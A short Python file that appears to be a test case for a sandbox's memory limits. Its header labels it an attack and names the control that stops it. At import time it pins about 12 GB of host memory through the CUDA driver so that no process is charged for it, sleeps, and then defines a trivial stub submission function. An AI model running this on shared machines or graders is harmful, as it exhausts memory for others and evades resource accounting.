# ATTACK [process]: takes the machine's memory through the GPU's driver, page-locked, which counts for no process
# STOPPED BY: memory is limited by a control group or by the watchdog, which counts what the driver has locked too
# NEEDS: cuda
import time

import torch

hoard = [torch.empty(256 << 20, dtype=torch.uint8, pin_memory=True) for _ in range(48)]
time.sleep(60)


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
